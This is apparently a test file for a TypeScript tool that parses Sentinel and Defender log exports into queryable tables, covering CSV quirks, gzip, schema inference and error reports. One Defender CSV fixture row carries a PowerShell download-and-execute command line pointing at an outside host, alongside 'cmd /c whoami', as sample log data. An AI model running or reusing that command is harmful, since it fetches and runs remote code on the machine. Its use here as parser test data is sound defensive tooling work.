import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync, rmSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openCatalog, ReaderError, builtinSchema, builtinTableNames, formatLoadReport } from './index.js';
import { FIXTURES, plainRows } from './test-helpers.js';

const fx = (...p: string[]) => join(FIXTURES, ...p);
function withDir(f: (dir: string) => Promise<void>): () => Promise<void> {
  return async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kqlite-cat-'));
    try { await f(dir); } finally { rmSync(dir, { recursive: true, force: true }); }
  };
}

test('builtin schemas: Sentinel ∪ Defender columns; Defender tables have Timestamp and TimeGenerated', () => {
  const names = builtinTableNames();
  assert.ok(names.length >= 46 && names.includes('DnsEvents') && names.includes('DeviceNetworkEvents'));
  const dne = builtinSchema('DeviceNetworkEvents')!;
  const type = (n: string) => dne.find((c) => c.name === n)?.type;
  assert.equal(type('Timestamp'), 'datetime');
  assert.equal(type('TimeGenerated'), 'datetime');
  assert.equal(type('RemotePort'), 'int');
  assert.equal(new Set(dne.map((c) => c.name)).size, dne.length);
  assert.equal(builtinSchema('CommonSecurityLog')!.find((c) => c.name === 'Timestamp'), undefined);
  assert.equal(builtinSchema('NoSuchTable'), undefined);
});

test('csv: BOM, CRLF, unit-suffixed header, portal datetimes, embedded CRLF, doubled quotes; lines are physical', async () => {
  const cat = await openCatalog([fx('csv', 'SigninLogs.csv')]);
  const t = await cat.load('SigninLogs', { columns: ['TimeGenerated', 'UserPrincipalName', 'ResultDescription', 'DurationMs', 'ConditionalAccessPolicies', 'Status'] });
  assert.deepEqual(plainRows(t), [
    { TimeGenerated: '2026-05-23T01:15:00.0000000Z', UserPrincipalName: 'alice@contoso.com', ResultDescription: '', DurationMs: 120, ConditionalAccessPolicies: [{ id: 'p1' }], Status: { errorCode: 0 } },
    { TimeGenerated: '2026-05-23T13:15:30.2500000Z', UserPrincipalName: 'bob@contoso.com', ResultDescription: 'Invalid\r\npassword, try again', DurationMs: 0, ConditionalAccessPolicies: [], Status: { failureReason: 'Invalid password' } },
    { TimeGenerated: '2026-05-23T14:00:00.0000000Z', UserPrincipalName: 'carol@contoso.com', ResultDescription: '', DurationMs: null, ConditionalAccessPolicies: null, Status: null },
    { TimeGenerated: '2026-05-23T15:00:00.1234567Z', UserPrincipalName: 'dave "the admin"', ResultDescription: '', DurationMs: 7, ConditionalAccessPolicies: [], Status: {} },
  ]);
  const [r] = cat.reports();
  const f = fx('csv', 'SigninLogs.csv');
  assert.deepEqual(r!.problems.map((p) => p.message), [
    `${f}:5: column DurationMs: cannot convert "not-a-number" to long; stored null`,
    `${f}:6: 3 fields, the header has 8`,
  ]);
  assert.deepEqual([r!.read, r!.loaded, r!.rejected, r!.nulled], [5, 4, 1, 1]);
});

test('csv: header-only file is an empty table; bad quoting rejects only that record; text columns inferred', async () => {
  const cat = await openCatalog([fx('csv')]);
  assert.deepEqual(cat.schema('EmptyTable'), [{ name: 'A', type: 'string' }, { name: 'B', type: 'string' }]);
  assert.equal((await cat.load('EmptyTable')).rowCount, 0);
  assert.deepEqual(plainRows(await cat.load('BadQuote')), [{ a: 1, b: 'ok' }, { a: 3, b: 'fine' }]);
  assert.deepEqual(cat.schema('Custom'), [{ name: 'When', type: 'datetime' }, { name: 'Count', type: 'long' }, { name: 'Ratio', type: 'real' },
    { name: 'Flag', type: 'bool' }, { name: 'Name', type: 'string' }, { name: 'Zip', type: 'string' }]);
  assert.deepEqual(plainRows(await cat.load('Custom'))[1], { When: '2026-05-24T11:00:00.0000000Z', Count: 22, Ratio: 2, Flag: false, Name: 'y', Zip: '123' });
  const bq = cat.reports().find((r) => r.table === 'BadQuote')!;
  assert.deepEqual(bq.problems.map((p) => [p.line, p.message.replace(/^.*?:\d+: /, '')]), [
    [3, 'unexpected text after a closing quote (column 2)'], [5, 'quote not closed before the end of the file']]);
  assert.deepEqual([bq.read, bq.loaded, bq.rejected], [4, 2, 2]);
});

test('defender streaming envelope: records routed to the table their category names, file name ignored', async () => {
  const cat = await openCatalog([fx('stream')]);
  assert.deepEqual(cat.tableNames(), ['DeviceNetworkEvents', 'DeviceProcessEvents']);
  const net = await cat.load('DeviceNetworkEvents', { columns: ['Timestamp', 'TimeGenerated', 'DeviceName', 'RemoteIP', 'RemotePort', 'TenantId'] });
  assert.deepEqual(plainRows(net), [
    { Timestamp: '2026-05-23T10:00:00.0000000Z', TimeGenerated: '2026-05-23T10:00:00.0000000Z', DeviceName: 'wks-1', RemoteIP: '203.0.113.7', RemotePort: 443, TenantId: 't-1' },
    { Timestamp: '2026-05-23T10:00:02.0000000Z', TimeGenerated: '2026-05-23T10:00:02.0000000Z', DeviceName: 'wks-2', RemoteIP: '198.51.100.1', RemotePort: null, TenantId: 't-1' },
  ]);
  const proc = await cat.load('DeviceProcessEvents', { columns: ['FileName', 'AdditionalFields'] });
  assert.deepEqual(plainRows(proc), [{ FileName: 'powershell.exe', AdditionalFields: { k: 1 } }]);
  const reps = cat.reports();
  assert.equal(reps.length, 1);
  const r = reps[0]!;
  assert.equal(r.format, 'defender-stream');
  assert.equal(r.table, 'DeviceNetworkEvents,DeviceProcessEvents');
  assert.deepEqual([r.read, r.loaded, r.rejected, r.nulled], [5, 3, 2, 1]);
  assert.deepEqual(r.loadedByTable, { DeviceNetworkEvents: 2, DeviceProcessEvents: 1 });
  assert.deepEqual(r.problems.map((p) => [p.kind, p.line]), [['nulled', 3], ['rejected', 4], ['rejected', 5]]);
});

test('gzip: detected by magic bytes; a truncated .gz keeps the rows before the damage and says so', async () => {
  const cat = await openCatalog([fx('gz')]);
  assert.deepEqual(cat.tableNames(), ['DnsEvents', 'Heartbeat', 'Syslog']);
  assert.equal((await cat.load('DnsEvents', { columns: ['Name'] })).rowCount, 50);
  assert.deepEqual(plainRows(await cat.load('Heartbeat', { columns: ['Computer'] })), [{ Computer: 'gz-by-magic' }]);
  const sys = await cat.load('Syslog', { columns: ['SyslogMessage'] });
  assert.ok(sys.rowCount > 1000 && sys.rowCount < 5000, String(sys.rowCount));
  assert.equal(sys.column('SyslogMessage')!.values[0], 'message number 0 ');
  const r = cat.reports().find((x) => x.table === 'Syslog')!;
  assert.equal(r.read, sys.rowCount);
  assert.equal(r.errors.length, 1);
  assert.match(r.errors[0]!, /Syslog\.ndjson\.gz: gzip data is corrupt or truncated/);
  await assert.rejects(openCatalog([fx('gz')], { strict: true }).then((c) => c.load('Syslog')), (e: unknown) => e instanceof ReaderError && e.code === 'RDR4003');
});

test('garbage: binary file, invalid UTF-8, empty file, broken and non-object lines: no crash, counts add up', async () => {
  const cat = await openCatalog([fx('garbage')]);
  for (const t of cat.tableNames()) await cat.load(t);
  const by = new Map(cat.reports().map((r) => [r.table, r]));
  assert.match(by.get('Binary')!.errors[0]!, /binary data \(NUL byte at offset \d+\); not a text log file/);
  assert.equal(by.get('Binary')!.read, 0);
  const utf = by.get('BadUtf8')!;
  assert.deepEqual([utf.read, utf.loaded, utf.warnings], [3, 3, 1]);
  assert.match(utf.problems[0]!.message, /BadUtf8\.ndjson:2: invalid UTF-8/);
  assert.deepEqual(plainRows(await cat.load('BadUtf8')).map((r) => r['Name']), ['ok', 'caf\uFFFD \uFFFD\uFFFD', 'fine é']);
  assert.deepEqual([by.get('Empty')!.read, by.get('Empty')!.errors.length], [0, 0]);
  const mixed = by.get('Mixed')!;
  assert.deepEqual(mixed.problems.map((p) => [p.line, p.message.replace(/^.*?:\d+: /, '').slice(0, 22)]), [
    [3, 'invalid JSON: Expected'], [4, 'not a JSON object (arr'], [5, 'not a JSON object (str'], [6, 'invalid JSON: Expected']]);
  for (const r of cat.reports()) assert.equal(r.read, r.loaded + r.rejected, r.file);
  assert.deepEqual(plainRows(await cat.load('Mixed', { columns: ['A', 'C'] })), [{ A: '1', C: null }, { A: '3', C: { n: [1] } }, { A: '4x', C: null }]);
});

test('strict: the first problem throws ReaderError with file:line', async () => {
  const cat = await openCatalog([fx('garbage', 'Mixed.ndjson')], { strict: true });
  await assert.rejects(cat.load('Mixed'), (e: unknown) => e instanceof ReaderError && e.code === 'RDR4001'
    && e.message.startsWith(`${fx('garbage', 'Mixed.ndjson')}:3: invalid JSON`));
  const c2 = await openCatalog([fx('infer', 'DnsEvents.ndjson')], { strict: true });
  await assert.rejects(c2.load('DnsEvents'), (e: unknown) => e instanceof ReaderError && e.code === 'RDR4004' && /:2: column EventId/.test(e.message));
  await c2.load('DnsEvents', { columns: ['Name'] }); // the failed load left no half state behind
});

test('kqlite.json: globs, formats, renames; unmatched files are listed as skipped', async () => {
  const cat = await openCatalog([fx('config')], { year: 2026 });
  assert.deepEqual(cat.tableNames(), ['CommonSecurityLog', 'ProxyLogs']);
  assert.deepEqual(cat.schema('ProxyLogs'), [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'SourceIP', type: 'string' }, { name: 'url', type: 'string' }]);
  assert.deepEqual(plainRows(await cat.load('ProxyLogs')), [
    { TimeGenerated: '2026-05-23T10:00:00.0000000Z', SourceIP: '10.0.0.1', url: 'http://a.example/' },
    { TimeGenerated: '2026-05-23T11:00:00.0000000Z', SourceIP: '10.0.0.2', url: 'http://b.example/' }]);
  assert.deepEqual(plainRows(await cat.load('CommonSecurityLog', { columns: ['SourceIP'] })), [{ SourceIP: '10.9.9.9' }]);
  assert.deepEqual(cat.skipped().map((s) => s.file), [fx('config', 'notes.md')]);
});

test('kqlite.json: a bad config is a clear error', withDir(async (dir) => {
  writeFileSync(join(dir, 'kqlite.json'), '{"files": {"*.txt": {"format": "xml"}}}');
  await assert.rejects(openCatalog([dir]), (e: unknown) => e instanceof ReaderError && e.code === 'RDR4008' && /unknown format "xml"/.test(e.message));
  writeFileSync(join(dir, 'kqlite.json'), '{"files": ');
  await assert.rejects(openCatalog([dir]), /kqlite\.json: not valid JSON/);
}));

test('inference and extras: unknown table inferred from all rows; known table keeps its types and appends extras', async () => {
  const cat = await openCatalog([fx('infer')]);
  assert.deepEqual(cat.tableNames(), ['Custom', 'DeviceProcessEvents', 'DnsEvents']);
  assert.deepEqual(cat.schema('Custom'), [
    { name: 'n', type: 'long' }, { name: 'r', type: 'real' }, { name: 'b', type: 'bool' }, { name: 'o', type: 'dynamic' },
    { name: 't', type: 'datetime' }, { name: 'mixed', type: 'string' }, { name: 's', type: 'string' }, { name: 'big', type: 'long' },
    { name: 'maybe', type: 'string' }, { name: 'extra', type: 'string' }]);
  const custom = plainRows(await cat.load('Custom'));
  assert.equal(custom[0]!['big'], '9007199254740993');
  assert.equal(custom[1]!['mixed'], 'two');
  assert.equal(custom[0]!['mixed'], '1');
  const dns = cat.schema('DnsEvents')!;
  assert.deepEqual(dns.slice(-2), [{ name: 'MyExtra', type: 'long' }, { name: 'qtype', type: 'string' }]);
  assert.equal(dns.find((c) => c.name === 'EventId')!.type, 'int');
  const dpe = await cat.load('DeviceProcessEvents', { columns: ['Timestamp', 'TimeGenerated', 'FileName'] });
  assert.deepEqual(plainRows(dpe), [
    { Timestamp: '2026-05-23T10:00:00.0000000Z', TimeGenerated: '2026-05-23T10:00:00.0000000Z', FileName: 'cmd.exe' },
    { Timestamp: '2026-05-23T10:00:05.0000000Z', TimeGenerated: '2026-05-23T10:00:05.0000000Z', FileName: 'a.exe' }]);
  assert.equal(cat.reports().filter((r) => r.table === 'DeviceProcessEvents').length, 2); // one per file of DeviceProcessEvents/
});

test('projection: unrequested columns are not materialized; columns are cached; zero columns still count rows', async () => {
  const cat = await openCatalog([fx('shared', 'ndjson')]);
  const none = await cat.load('CommonSecurityLog', { columns: [] });
  assert.equal(none.rowCount, 3);
  assert.equal(none.columns.length, 0);
  const a = await cat.load('CommonSecurityLog', { columns: ['SourceIP', 'NoSuchColumn'] });
  assert.deepEqual(a.schema, [{ name: 'SourceIP', type: 'string' }]);
  const b = await cat.load('CommonSecurityLog', { columns: ['DestinationIP', 'SourceIP'] });
  assert.equal(b.column('SourceIP')!.values, a.column('SourceIP')!.values);
  assert.deepEqual(cat.reports().map((r) => r.read), [3]);
  const [x, y] = await Promise.all([cat.load('CommonSecurityLog', { columns: ['Message'] }), cat.load('CommonSecurityLog', { columns: ['Message', 'Activity'] })]);
  assert.equal(x.column('Message')!.values, y.column('Message')!.values);
  await assert.rejects(cat.load('DnsEvents'), (e: unknown) => e instanceof ReaderError && e.code === 'RDR4009');
  assert.equal(cat.schema('DnsEvents'), undefined);
});

test('layout: DIR/<Table>.<ext>, DIR/<Table>/*.<ext>, lower-case known names, unknown extensions skipped', withDir(async (dir) => {
  mkdirSync(join(dir, 'DnsEvents'));
  writeFileSync(join(dir, 'DnsEvents', 'a.jsonl'), '{"Name":"a"}\n');
  writeFileSync(join(dir, 'DnsEvents', 'b.csv'), 'Name\nb\n');
  writeFileSync(join(dir, 'syslog.ndjson'), '{"SyslogMessage":"m"}\n');
  writeFileSync(join(dir, 'SigninLogs (1).csv'), 'UserPrincipalName\nu1\n');
  writeFileSync(join(dir, 'SigninLogs_2026-05.jsonl'), '{"UserPrincipalName":"u2"}\n');
  writeFileSync(join(dir, 'SigninLogsCustom.jsonl'), '{"UserPrincipalName":"u3"}\n');
  writeFileSync(join(dir, 'notes.txt'), 'hello\n');
  writeFileSync(join(dir, 'fw.txt'), '<13>May 23 10:00:00 h CEF:0|V|P|1|2|N|3|src=1.2.3.4\n');
  const cat = await openCatalog([dir]);
  assert.deepEqual(cat.tableNames(), ['CommonSecurityLog', 'DnsEvents', 'SigninLogs', 'SigninLogsCustom', 'Syslog']);
  assert.deepEqual(plainRows(await cat.load('SigninLogs', { columns: ['UserPrincipalName'] })), [{ UserPrincipalName: 'u1' }, { UserPrincipalName: 'u2' }]);
  assert.deepEqual(plainRows(await cat.load('DnsEvents', { columns: ['Name'] })), [{ Name: 'a' }, { Name: 'b' }]);
  assert.deepEqual(cat.skipped().map((s) => s.file), [join(dir, 'notes.txt')]);
  await assert.rejects(openCatalog([join(dir, 'missing')]), /missing: no such file or directory/);
}));

test('robustness: a 50 MB single line loads; a line over the limit is rejected and skipped', withDir(async (dir) => {
  const big = 'x'.repeat(50 << 20);
  writeFileSync(join(dir, 'Big.ndjson'), `{"a":1,"s":"${big}"}\n{"a":2,"s":"small"}\n`);
  const cat = await openCatalog([dir]);
  const t = await cat.load('Big');
  assert.equal(t.rowCount, 2);
  assert.equal((t.column('s')!.values[0] as string).length, 50 << 20);
  const lim = await openCatalog([dir], { maxLineBytes: 1 << 20 });
  const t2 = await lim.load('Big', { columns: ['a'] });
  assert.deepEqual(plainRows(t2), [{ a: 2 }]);
  const [r] = lim.reports();
  assert.deepEqual([r!.read, r!.loaded, r!.rejected], [2, 1, 1]);
  assert.match(r!.problems[0]!.message, /Big\.ndjson:1: line longer than 1048576 bytes; skipped/);
}));

test('formatLoadReport: per-file totals, errors, first rejected lines, overflow count', async () => {
  const cat = await openCatalog([fx('garbage')]);
  for (const t of cat.tableNames()) await cat.load(t);
  const text = formatLoadReport(cat.reports(), { maxLines: 2 });
  const f = fx('garbage', 'Mixed.ndjson');
  assert.match(text, new RegExp(`${f.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\(Mixed, ndjson\\): read 7, loaded 3, rejected 4, values nulled 0\\n  rejected: .*Mixed\\.ndjson:3: invalid JSON.*\\n  rejected: .*Mixed\\.ndjson:4: not a JSON object \\(array\\)\\n  … 2 more problems\\n`));
  assert.match(text, /Binary\.ndjson \(Binary, ndjson\): read 0, loaded 0, rejected 0, values nulled 0\n  error: .*binary data/);
  assert.match(text, /total \(4 files\): read 10, loaded 6, rejected 4, values nulled 0\n$/);
});

test('workspace edge cases: no paths, the same file twice, UTF-16 CSV with BOM', withDir(async (dir) => {
  const empty = await openCatalog([]);
  assert.deepEqual(empty.tableNames(), []);
  const csv = '\ufeffName,Count\r\nünïcode,1\r\n';
  writeFileSync(join(dir, 'Wide.csv'), Buffer.from(csv, 'utf16le'));
  const cat = await openCatalog([dir, join(dir, 'Wide.csv')]);
  assert.deepEqual(cat.tableNames(), ['Wide']);
  assert.deepEqual(plainRows(await cat.load('Wide')), [{ Name: 'ünïcode', Count: 1 }]);
}));

test('robustness: rare delimiters do not make scanning quadratic (single-column CSV, unterminated strings)', withDir(async (dir) => {
  writeFileSync(join(dir, 'One.csv'), 'Name\n' + 'value\n'.repeat(200_000));
  writeFileSync(join(dir, 'Open.ndjson'), '{"a":1}\n' + '{"a":"never closed\n'.repeat(50_000));
  const cat = await openCatalog([dir], { inferRows: 10 });
  assert.equal((await cat.load('One')).rowCount, 200_000);
  assert.equal((await cat.load('Open', { columns: ['a'] })).rowCount, 1);
  const r = cat.reports().find((x) => x.table === 'Open')!;
  assert.deepEqual([r.read, r.loaded, r.rejected, r.problems.length], [50_001, 1, 50_000, 100]);
}));

test('csv: Defender XDR advanced-hunting export (Timestamp only, quoted command lines, JSON text, big ReportId)', async () => {
  const cat = await openCatalog([fx('defender-csv')], { strict: true });
  const t = await cat.load('DeviceProcessEvents', { columns: ['Timestamp', 'TimeGenerated', 'DeviceName', 'ProcessCommandLine', 'ProcessId', 'SHA256', 'AdditionalFields', 'ReportId'] });
  assert.deepEqual(plainRows(t), [
    { Timestamp: '2026-05-23T10:00:00.1234567Z', TimeGenerated: '2026-05-23T10:00:00.1234567Z', DeviceName: 'wks-1.contoso.local',
      ProcessCommandLine: 'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://net883.com/a,b\')"',
      ProcessId: 4242, SHA256: 'ab'.repeat(32), AdditionalFields: { ProcessStartKey: 123 }, ReportId: '9007199254740993' },
    { Timestamp: '2024-06-03T15:04:05.0000000Z', TimeGenerated: '2024-06-03T15:04:05.0000000Z', DeviceName: 'wks-2',
      ProcessCommandLine: 'cmd /c whoami', ProcessId: 12, SHA256: '', AdditionalFields: null, ReportId: 1 },
  ]);
});

test('fields first seen after the open-time sample are reported once per file, not silently dropped', withDir(async (dir) => {
  writeFileSync(join(dir, 'DnsEvents.ndjson'), '{"Name":"a"}\n{"Name":"b","Late":1}\n{"Name":"c","Late":2,"Nested":{"x":1}}\n');
  writeFileSync(join(dir, 'Syslog.csv'), 'SyslogMessage,Odd\nm,1\n');
  const cat = await openCatalog([dir], { sampleRows: 1, strict: true });
  assert.equal(cat.schema('DnsEvents')!.find((c) => c.name === 'Late'), undefined);
  assert.deepEqual(plainRows(await cat.load('DnsEvents', { columns: ['Name'] })), [{ Name: 'a' }, { Name: 'b' }, { Name: 'c' }]);
  const r = cat.reports().find((x) => x.table === 'DnsEvents')!;
  assert.deepEqual(r.problems.map((p) => [p.kind, p.line, p.message.replace(/^.*?:\d+: /, '').split(' (')[0]]), [
    ['warning', 2, 'field "Late" is not in the schema of DnsEvents'], ['warning', 3, 'field "Nested" is not in the schema of DnsEvents']]);
  assert.equal(r.warnings, 2);
  assert.equal(cat.schema('Syslog')!.at(-1)!.name, 'Odd'); // a CSV header is always part of the schema
  await cat.load('Syslog');
  assert.equal(cat.reports().find((x) => x.table === 'Syslog')!.warnings, 0);
}));
